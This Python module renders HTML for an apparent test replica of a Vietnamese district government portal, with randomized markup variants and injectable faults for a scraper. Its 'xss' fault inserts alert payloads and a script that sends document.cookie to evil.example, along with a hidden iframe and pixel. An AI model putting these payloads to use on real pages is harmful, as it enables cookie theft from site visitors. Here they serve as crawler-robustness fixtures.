"""HTML of the replica's pages, in either portal template and any markup variant.

The live portal's class names and nesting are unknown, so a `Variant` draws them from a seed: the same
content rendered with two variants looks different to a parser and reads the same to a person.
Text that changes on every request (visit counter, server clock) is left as a NOISE marker for the
server to fill in.
"""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass
from datetime import datetime
from html import escape
from urllib.parse import quote

from replica import hostile
from replica import vocabulary as V
from replica.content import (ALIAS_HOST, CATEGORIES, CATEGORY, HOME, MAIN_HOST, PROVINCE_HOST, Image, Page)

NOISE_CLOCK = "\x00noise:clock\x00"
NOISE_COUNTER = "\x00noise:counter\x00"
NOISE_VIEWS = "\x00noise:views\x00"  # a page's own view count ("Lượt xem: 1234"), template families only
HTML = "text/html;charset=UTF-8"
THEME = "/html/themes/thoxuan-theme"
BANNER = f"{THEME}/images/banner thoxuan.JPG"
ROLES = ["page", "header", "site-title", "slogan", "datebar", "menu", "submenu", "main", "label", "headline",
         "meta", "zoom", "body", "lead", "figure", "caption", "author", "others", "others-title", "footer",
         "listing", "item", "item-title", "item-date", "pager", "poll", "counter", "sidebar", "attachments"]
_TOKENS = ["portlet", "journal", "content", "news", "box", "tin", "bai-viet", "chi-tiet", "col", "wrap", "inner",
           "mod", "block", "asset", "lfr", "td", "vb", "ttdt", "khung", "noi-dung"]


@dataclass(frozen=True)
class Variant:
    """Class names, wrapper nesting and element choices of one markup variant."""

    number: int
    cls: dict[str, str]
    wrappers: tuple[str, ...]  # class names of the divs nested around the main content
    headline_tag: str
    para_tag: str  # "p" or "div"
    layout: str  # "div" or "table" (the old template is always a table)
    lead_tag: str  # "strong" or "b"
    caption_style: str  # "em" (caption in <em> inside a paragraph) or "plain"
    figure_style: str  # "p" (image in its own paragraph) or "table" (image in a one-cell table)


def make_variant(number: int) -> Variant:
    if number == 0:  # names in the style of the Liferay portals Vietnamese districts ran
        cls = {r: f"{r.replace('-', '_')}" for r in ROLES}
        cls.update(headline="title-news", body="journal-content-article", main="portlet-body")
        return Variant(0, cls, ("portlet-boundary", "portlet-content"), "h1", "p", "div", "strong", "em", "p")
    rng = random.Random(f"variant-{number}")
    cls = {r: f"{rng.choice(_TOKENS)}-{rng.choice(_TOKENS)}{rng.randint(1, 99)}" for r in ROLES}
    wrappers = tuple(f"{rng.choice(_TOKENS)}{rng.randint(1, 9)}" for _ in range(rng.randint(1, 4)))
    return Variant(number, cls, wrappers, rng.choice(["h1", "h2", "h3"]), rng.choice(["p", "div"]),
                   rng.choice(["div", "table"]), rng.choice(["strong", "b"]), rng.choice(["em", "plain"]),
                   rng.choice(["p", "table"]))


def slogan(year: int) -> str:
    return V.SLOGANS[max(y for y in V.SLOGANS if y <= max(year, min(V.SLOGANS)))]


def encoded(path: str) -> str:
    """The percent-encoded form of a path, as some links on the portal write it: `(1)` → `%281%29`, `amp;` → `amp%3B`."""
    return quote(path, safe="/-._~")


def category_href(category: str, host: str) -> str:
    cat = CATEGORY[category]
    return f"{HOME}/{cat.path if host == MAIN_HOST else cat.alias_path}"


def image_src(img: Image, page_host: str, page_path: str) -> str:
    """The `src` as the page writes it: relative, root-relative, absolute, protocol-relative or encoded."""
    host = img.host if img.host == PROVINCE_HOST else page_host
    if img.src_form == "absolute":
        return f"https://{host}{img.path}"
    if img.src_form == "protocol":
        return f"//{host}{img.path}"
    if img.src_form == "relative":
        return "../" * (page_path.count("/") - 1) + img.path.lstrip("/")
    if img.src_form == "encoded":
        return encoded(img.path)
    return img.path


class Renderer:
    """Renders pages of one site in one variant; `host` is the portal host the page is served from."""

    def __init__(self, variant: Variant, pages_by_id: dict[str, Page]):
        self.v = variant
        self.pages = pages_by_id

    def content_type(self, kind: str) -> str:
        """The Content-Type header of a page of this kind ("article", "listing", "section", "home")."""
        return HTML

    def c(self, role: str) -> str:
        return f'class="{self.v.cls[role]}"'

    def para(self, inner: str, role: str | None = None, style: str = "") -> str:
        tag = self.v.para_tag
        attrs = (f" {self.c(role)}" if role else "") + (f' style="{style}"' if style else "")
        return f"<{tag}{attrs}>{inner}</{tag}>"

    # --- chrome -----------------------------------------------------------------------------------

    def menu(self, host: str) -> str:
        prefix = f"https://{MAIN_HOST}" if host == MAIN_HOST else ""  # the main host writes absolute menu links
        items = [f'<li><a href="{prefix}{HOME}">Trang chủ</a></li>']
        for cat in CATEGORIES:
            if cat.parent or (host != MAIN_HOST and not cat.alias_path):
                continue
            children = [c for c in CATEGORIES if c.parent == cat.path]
            sub = "".join(f'<li><a href="{prefix}{escape(category_href(c.path, host))}">{escape(c.label)}</a></li>'
                          for c in children)
            if cat.path == "tong-quan":
                sub = "".join(f'<li><a href="{prefix}{category_href("tong-quan", host)}/{slug}">{escape(label)}</a></li>'
                              for slug, label in V.STATIC_PAGES) + sub
            sub = f"<ul {self.c('submenu')}>{sub}</ul>" if sub else ""
            items.append(f'<li><a href="{prefix}{escape(category_href(cat.path, host))}">{escape(cat.label)}</a>{sub}</li>')
        return f'<ul {self.c("menu")}>{"".join(items)}</ul>'

    def head(self, title: str, charset: str = "utf-8") -> str:
        return (f'<!DOCTYPE html>\n<html lang="vi"><head><meta charset="{charset}">'
                f'<meta name="viewport" content="width=device-width, initial-scale=1">'
                f"<title>{escape(title)} - {escape(V.SITE_TITLE)}</title>"
                f'<link rel="stylesheet" href="{THEME}/css/main.css">'
                f'<script src="{THEME}/js/main.js"></script></head>')

    def wrap(self, content: str) -> str:
        for name in reversed(self.v.wrappers):
            content = f'<div class="{name}">{content}</div>'
        return content

    def new_chrome(self, title: str, host: str, year: int, content: str, charset: str = "utf-8") -> str:
        other = ALIAS_HOST if host == MAIN_HOST else MAIN_HOST
        header = (f'<div {self.c("header")}><a href="/"><img src="{escape(BANNER)}" alt="Thọ Xuân"></a>'
                  f'<div {self.c("site-title")}>{escape(V.SITE_TITLE)}</div>'
                  f'<div {self.c("slogan")}>{escape(slogan(year))}</div></div>'
                  f'<div {self.c("datebar")}><span id="clock">date</span><script>{NOISE_CLOCK}</script></div>')
        sidebar = (f'<div {self.c("sidebar")}><div>Liên kết</div><ul>'
                   f'<li><a href="https://{PROVINCE_HOST}/portal/Pages/default.aspx">Cổng thông tin điện tử tỉnh Thanh Hóa</a></li>'
                   f'<li><a href="http://{other}{HOME}">Cổng thông tin {other}</a></li>'
                   f'<li><a href="/c/portal/login">Đăng nhập</a></li></ul></div>')
        footer = (f'<div {self.c("footer")}>Cơ quan chủ quản: UBND huyện Thọ Xuân. Địa chỉ: thị trấn Thọ Xuân, '
                  f"huyện Thọ Xuân, tỉnh Thanh Hóa. Ghi rõ nguồn khi phát hành lại thông tin từ website này.</div>")
        main = self.wrap(content)
        if self.v.layout == "table":
            body = f'<table {self.c("main")}><tr><td>{main}</td><td>{sidebar}</td></tr></table>'
        else:
            body = f'<div {self.c("main")}>{main}</div>{sidebar}'
        return f'{self.head(title, charset)}<body {self.c("page")}>{header}{self.menu(host)}{body}{footer}</body></html>'

    def old_chrome(self, title: str, host: str, content: str, charset: str = "utf-8") -> str:
        answers = "".join(f'<div><input type="radio" name="poll" value="{i}"> {escape(a)}</div>'
                          for i, a in enumerate(V.POLL_ANSWERS))
        poll = (f'<div {self.c("poll")}><div>Ý kiến thăm dò</div><div>{escape(V.POLL_QUESTION)}</div>{answers}'
                f'<input type="button" value="Biểu quyết"></div>')
        counter = f'<div {self.c("counter")}>{NOISE_COUNTER}</div>'
        return (f'{self.head(title, charset)}<body {self.c("page")}><table width="100%" {self.c("main")}>'
                f'<tr><td colspan="2"><img src="{escape(BANNER)}" alt="Thọ Xuân"></td></tr>'
                f'<tr><td width="220" valign="top">{self.menu(host)}{poll}{counter}</td>'
                f'<td valign="top">{self.wrap(content)}</td></tr></table></body></html>')

    # --- pages ------------------------------------------------------------------------------------

    def article(self, page: Page, host: str, path: str, others: list[Page], fault: str = "") -> str:
        text = (lambda s: unicodedata.normalize("NFD", s)) if page.nfd else (lambda s: s)
        indent = "&nbsp;" * 4
        # Chapters and documents have no lead: no lead element either.
        parts = [self.para(f"<{self.v.lead_tag}>{escape(text(page.lead))}</{self.v.lead_tag}>", "lead")] if page.lead else []
        links = {idx: (phrase, dest) for idx, phrase, dest in page.links}
        for n, paragraph in enumerate(page.body):
            inner = escape(text(paragraph))
            if n in links:
                phrase, dest = links[n]
                inner = inner.replace(escape(text(phrase)), f'<a href="{escape(self.link_to(dest, host))}">{escape(text(phrase))}</a>', 1)
            if fault == "xss" and n == 0:
                inner += ' <a href="javascript:alert(document.domain)" onclick="alert(1)">xem thêm</a>'
            parts.append(self.para(f"{indent}{inner}" if n % 2 else inner, style="text-align:justify"))
            if n % 3 == 1:
                parts.append(self.para("&nbsp;"))
            for img, after in zip(page.images, page.image_after, strict=True):
                if after == n:
                    parts.append(self.figure(img, host, path, text, fault))
        hostile_faults = [name for name in fault.split("+") if name in hostile.HOSTILE_FAULTS]
        parts += [hostile.body_html(name) for name in hostile_faults]
        if fault == "xss":
            parts.append('<script>alert("xss");fetch("https://evil.example/steal?c="+document.cookie)</script>'
                         '<iframe src="https://evil.example/frame" width="1" height="1"></iframe>'
                         '<img src="https://evil.example/pixel.gif" width="1" height="1">')
        if page.attachments:
            files = "".join(f'<li><a href="{escape(self.attachment_href(a))}">{escape(a.link_text)}</a></li>'
                            for a in page.attachments)
            parts.append(f'<div {self.c("attachments")}><div>File đính kèm:</div><ul>{files}</ul></div>')
        parts.append(self.para(f"<{self.v.lead_tag}>{escape(text(page.author))}</{self.v.lead_tag}>", "author",
                               "text-align:right"))
        body = f'<div {self.c("body")}>{"".join(parts)}</div>'
        others_html = self.others(others, host)
        headline = f'<{self.v.headline_tag} {self.c("headline")}>{escape(text(page.title))}</{self.v.headline_tag}>'
        charset = "utf-8"
        if page.template == "old":
            meta = f'<div {self.c("meta")}>Ngày {page.published:%d/%m/%Y %H:%M:%S}</div>'
            html = self.old_chrome(page.title, host, headline + meta + body + others_html)
        else:
            label = f'<div {self.c("label")}>{escape(V.FIXED_LABEL)}</div>'
            meta = f'<div {self.c("meta")}>Đăng lúc: {page.published:%d/%m/%Y} (GMT+7)</div>'
            zoom = (f'<div {self.c("zoom")}><button type="button" aria-label="Giảm cỡ chữ"></button><span>100%</span>'
                    f'<button type="button" aria-label="Tăng cỡ chữ"></button></div>')
            html = self.new_chrome(page.title, host, page.published.year, label + headline + meta + zoom + body + others_html, charset)
        head = "".join(hostile.head_html(name) for name in hostile_faults)
        if head:  # first in the head, so that <base> applies to everything after it
            html = html.replace("<head>", "<head>" + head, 1)
        if fault == "malformed-html":
            # Unclosed and stray tags, an unquoted attribute and a cut-off end, as broken CMS output looks.
            html = (html.replace(f"</{self.v.para_tag}>", "", 3).replace("</div>", "</div></span></td>", 2)
                    .replace(' style="text-align:justify"', " style=text-align:justify <b", 1)
                    .replace("</body></html>", "<div><p>"))
        return html

    def figure(self, img: Image, host: str, path: str, text, fault: str) -> str:
        src = escape(image_src(img, host, path))
        onerror = ' onerror="alert(\'xss\')"' if fault == "xss" else ""
        tag = f'<img src="{src}" alt="{escape(img.path.rsplit("/", 1)[-1])}"{onerror} width="{img.size[0]}">'
        caption = escape(text(img.caption))
        if img.parenthesised:
            caption = f"({caption})"
        caption = f"<em>{caption}</em>" if self.v.caption_style == "em" else caption
        if self.v.figure_style == "table":
            box = f'<table {self.c("figure")} align="center"><tr><td>{tag}</td></tr></table>'
        else:
            box = self.para(tag, "figure", "text-align:center")
        return box + self.para(caption, "caption", "text-align:center")

    def attachment_href(self, att) -> str:
        return encoded(att.path) if att.href_form == "encoded" else att.path

    def link_to(self, dest: str, host: str) -> str:
        """An in-body link: to another page on its own host, in whichever URL form the editor pasted."""
        if dest.startswith("http"):
            return dest
        target = self.pages[dest]
        if host in target.hosts:
            path = target.path_in(target.category, host)
            return encoded(path) if len(target.slug) % 2 else path
        return f"https://{target.hosts[0]}{target.path_in(target.category, target.hosts[0])}"

    def others(self, others: list[Page], host: str) -> str:
        items = "".join(
            f'<li><a href="http://{host}{escape(encoded(o.path_in(o.category, host)))}">{escape(o.title)}</a> '
            f'<span>({o.published:%d/%m/%Y})</span></li>' for o in others)
        return f'<div {self.c("others")}><div {self.c("others-title")}>Các tin khác</div><ul>{items}</ul></div>' if items else ""

    def listing(self, title: str, host: str, path: str, items: list[tuple[str, Page]], page_no: int, pages: int) -> str:
        rows = []
        for href, p in items:
            thumb = ""
            if p.images and not p.images[0].broken:
                thumb = f'<a href="{escape(href)}"><img src="{escape(image_src(p.images[0], host, path))}" alt=""></a>'
            rows.append(f'<div {self.c("item")}>{thumb}<a {self.c("item-title")} href="{escape(href)}">{escape(p.title)}</a>'
                        f'<span {self.c("item-date")}>({p.published:%d/%m/%Y})</span>'
                        f"{self.para(escape(p.lead)) if p.lead else ''}</div>")
        pager = ""
        if items and pages > 1:
            links = [f'<a href="{escape(path)}?page={n}">{n}</a>' if n != page_no else f"<span>{n}</span>"
                     for n in range(max(1, page_no - 3), min(pages, page_no + 3) + 1)]
            if page_no > 1:
                links.insert(0, f'<a href="{escape(path)}?page=1">Đầu</a>')
            if page_no < pages:
                links += [f'<a href="{escape(path)}?page={page_no + 1}">Sau</a>', f'<a href="{escape(path)}?page={pages}">Cuối</a>']
            pager = f'<div {self.c("pager")}>{" ".join(links)}</div>'
        content = (f'<{self.v.headline_tag} {self.c("headline")}>{escape(title)}</{self.v.headline_tag}>'
                   f'<div {self.c("listing")}>{"".join(rows)}</div>{pager}')
        return self.new_chrome(title, host, 2025, content)

    def section(self, title: str, host: str, links: list[tuple[str, str]], intro: str = "") -> str:
        items = "".join(f'<li><a href="{escape(href)}">{escape(label)}</a></li>' for href, label in links)
        content = (f'<{self.v.headline_tag} {self.c("headline")}>{escape(title)}</{self.v.headline_tag}>'
                   f'{self.para(escape(intro)) if intro else ""}<ul {self.c("listing")}>{items}</ul>')
        return self.new_chrome(title, host, 2025, content)

    def home(self, host: str, blocks: list[tuple[str, str, list[tuple[str, Page]]]]) -> str:
        html = []
        for title, more, items in blocks:
            rows = "".join(f'<li><a href="{escape(href)}">{escape(p.title)}</a> <span>({p.published:%d/%m/%Y})</span></li>'
                           for href, p in items)
            html.append(f'<div {self.c("listing")}><div {self.c("others-title")}>{escape(title)}</div><ul>{rows}</ul>'
                        f'<a href="{escape(more)}">Xem tiếp</a></div>')
        return self.new_chrome("Trang chủ", host, 2025, "".join(html))


def province_page(title: str, when: datetime, body: list[str], links: list[tuple[str, str]]) -> str:
    """The province portal (SharePoint style), a different platform with its own date format."""
    items = "".join(f'<li><a href="{escape(h)}">{escape(t)}</a></li>' for h, t in links)
    paras = "".join(f"<p>{escape(p)}</p>" for p in body)
    return (f'<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>{escape(title)}</title></head>'
            f'<body><div id="s4-workspace"><div class="ms-rtestate-field"><h2>{escape(title)}</h2>'
            f"<div>Đăng ngày {when.day:02d} - {when.month:02d} - {when.year}</div>{paras}<ul>{items}</ul>"
            f"</div></div></body></html>")


def fill_noise(kind: str, hits: int, now: datetime) -> str:
    """What the live portal prints where the replica left NOISE: a clock or a visit counter that never repeat."""
    if kind == "clock":
        return f'var serverTime = "{now:%d/%m/%Y %H:%M:%S}"; var pageHits = {hits};'
    if kind == "views":
        return f"{1234 + 7 * hits}"
    return (f"<div>Truy cập</div><div>Hôm nay: {1200 + hits % 800}</div><div>Hôm qua: 2315</div>"
            f"<div>Tuần này: {9000 + hits % 5000}</div><div>Tháng này: {41000 + hits}</div>"
            f"<div>Tất cả: {1017728 + hits}</div>")
